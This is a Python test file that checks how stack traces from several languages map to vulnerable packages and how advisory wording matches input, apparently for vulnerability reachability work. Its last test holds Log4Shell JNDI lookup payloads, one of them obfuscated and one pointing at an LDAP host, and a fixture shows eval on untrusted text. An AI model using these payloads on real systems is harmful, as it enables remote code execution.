import pytest

from lemnis.graph.code.packages import inner, shared, through
from lemnis.graph.code.stacktraces import Files, stacks

LOG4J = """\
javax.naming.NamingException: problem generating object
\tat java.naming/com.sun.jndi.ldap.LdapCtx.c_lookup(LdapCtx.java:1114) ~[java.naming:?]
\tat org.apache.logging.log4j.core.net.JndiManager.lookup(JndiManager.java:172) ~[log4j-core-2.14.1.jar!/:2.14.1]
\tat com.shop.Search.find(Search.java:3) ~[classes!/:?]
\tat org.springframework.web.Dispatcher.run(Dispatcher.java:9) ~[spring-web-6.1.14.jar!/:6.1.14]
"""
PYTHON = """\
Traceback (most recent call last):
  File "/usr/local/lib/python3.12/site-packages/flask/app.py", line 1511, in wsgi_app
    return self.full_dispatch_request()
  File "/app/shop/web.py", line 2, in preview
    return yaml_reader.load(text)
  File "/usr/local/lib/python3.12/site-packages/yaml_reader/core.py", line 7, in load
    return eval(text)
  File "<string>", line 1, in <module>
ValueError: x
"""
NODE = """\
Error: no
    at parse (/app/node_modules/@tiny/fmt/index.js:3:9)
    at node:internal/process:1:1
"""
GO = """\
panic: x

goroutine 7 [running]:
github.com/tiny/fmt.Parse(0x1)
\t/go/pkg/mod/github.com/tiny/fmt@v1.2.0/parse.go:3 +0x1
main.main()
\t/app/main.go:3 +0x1
"""


def frames(text, *files):
    return inner(stacks(text)[0], Files(files).own)


@pytest.mark.parametrize(
    ("text", "files", "purl", "function"),
    [
        (LOG4J, ["src/main/java/com/shop/Search.java"], "pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1", "JndiManager.lookup"),
        (LOG4J, [], "pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1", "JndiManager.lookup"),
        (LOG4J, ["src/main/java/com/shop/Search.java"], "pkg:maven/org.springframework/spring-web@6.1.14", None),
        (LOG4J, [], "pkg:maven/org.springframework/spring-web@6.1.14", None),
        (PYTHON, ["shop/web.py"], "pkg:pypi/yaml-reader@1.0", "load"),
        (PYTHON, [], "pkg:pypi/Yaml.Reader@1.0", "load"),
        (PYTHON, ["shop/web.py"], "pkg:pypi/flask@3.0", None),
        (PYTHON, ["shop/web.py"], "pkg:pypi/yaml@3.0", None),
        (NODE, [], "pkg:npm/%40tiny/fmt@1.0.0", "parse"),
        (NODE, [], "pkg:npm/fmt@1.0.0", None),
        (GO, ["main.go"], "pkg:golang/github.com/tiny/fmt@v1.2.0", "Parse"),
        (GO, ["main.go"], "pkg:golang/github.com/tiny/fm@v1.2.0", None),
        (GO, ["main.go"], "pkg:cargo/fmt@1.2.0", None),
    ],
)  # fmt: skip
def test_a_stack_trace_leads_to_the_packages_that_own_code_called(text, files, purl, function):
    found = through(frames(text, *files), purl)
    assert (found.function if found else None) == function or found.function.endswith(f".{function}")


def test_packages_of_a_group_whose_classes_are_called_otherwise():
    [stack] = stacks(
        "java.io.IOException: x\n\tat com.fasterxml.jackson.databind.ObjectMapper.read(ObjectMapper.java:1)\n"
    )
    assert through(stack.frames, "pkg:maven/com.fasterxml.jackson.core/jackson-databind@2.9.0")
    assert not through(stack.frames, "pkg:maven/com.fasterxml.jackson.core/jackson-annotations@2.9.0")


def test_words_that_tell_something():
    told = "CVE-1. Lookups in logged text load code over JNDI and LDAP org.x.JndiLookup.lookup"
    assert shared("${jndi:ldap://198.51.100.66/a}", told) == ("jndi", "ldap")
    assert shared("${JNDI:x}", told) == ("jndi",)
    assert shared("${${lower:j}ndi:x}", told) == ()
    assert shared("load the text with code", told, ordinary={"load"}) == ()
    assert shared("http://user.example/code", "Remote code by http for a user") == ()
